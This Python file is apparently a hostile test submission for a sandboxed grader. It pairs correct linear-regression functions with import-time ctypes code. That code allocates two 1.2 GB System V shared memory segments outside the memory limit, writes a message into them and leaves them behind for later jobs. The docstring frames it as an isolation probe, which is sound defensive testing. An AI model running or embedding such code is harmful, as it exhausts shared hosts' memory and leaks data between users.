"""Threat: System V shared memory: two segments of 1.2 GB (over the 2 GB memory limit
together), written and detached, so that no process maps them, and left behind.

Hope: the segments are not counted by the memory limit (RLIMIT_AS counts mappings), fill
the machine's memory, and outlive the job, so the next submission on the same warm worker
finds them and reads what this one wrote.
Safe outcome: each job has an IPC namespace of its own in which no System V object can be
made (Docker: the container's, set the same way), so `shmget` fails and the job goes on;
nothing is left for the next job or on the host. The (correct) functions all score.
"""

import ctypes

import torch
from torch import Tensor

EARNED = [
    "predict: values",
    "mse_loss: value",
    "mse_grad: dw matches autograd",
    "mse_grad: db matches autograd",
    "gd_step: updated parameters",
    "fit: loss history",
    "fit: w reaches least squares",
    "fit: b reaches least squares",
    "fit: loss never increases",
]

_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
_libc.shmdt.argtypes = [ctypes.c_void_p]
_held = 0
for _key in (0x4057, 0x4058):
    _size = 1200 * 2**20
    _ident = _libc.shmget(_key, _size, 0o1600)  # IPC_CREAT | 0600
    if _ident < 0:
        continue
    _at = _libc.shmat(_ident, None, 0)
    if _at not in (None, ctypes.c_void_p(-1).value):
        ctypes.memset(_at, 7, _size)
        ctypes.memmove(_at, b"message from an earlier student", 31)
        _libc.shmdt(_at)
        _held += _size
if _held > 2048 * 2**20:
    print(f"HOSTILE-LEAK: {_held >> 20} MB of System V shared memory beyond the memory limit")


def predict(X: Tensor, w: Tensor, b: Tensor) -> Tensor:
    return torch.mv(X, w) + b


def mse_loss(y_pred: Tensor, y: Tensor) -> Tensor:
    err = y_pred - y
    return (err * err).sum() / err.numel()


def mse_grad(X: Tensor, y: Tensor, w: Tensor, b: Tensor) -> tuple[Tensor, Tensor]:
    err = torch.mv(X, w) + b - y
    scale = 2.0 / X.shape[0]
    return scale * torch.mv(X.t(), err), scale * err.sum()


def gd_step(w: Tensor, b: Tensor, dw: Tensor, db: Tensor, lr: float) -> tuple[Tensor, Tensor]:
    return w - dw * lr, b - db * lr


def fit(X: Tensor, y: Tensor, lr: float, steps: int) -> tuple[Tensor, Tensor, list[float]]:
    w = X.new_zeros(X.shape[1])
    b = X.new_zeros(())
    losses = []
    scale = 2.0 / X.shape[0]
    for _ in range(steps):
        err = torch.mv(X, w) + b - y
        losses.append(float((err * err).mean()))
        w, b = w - lr * scale * torch.mv(X.t(), err), b - lr * scale * err.sum()
    return w, b, losses
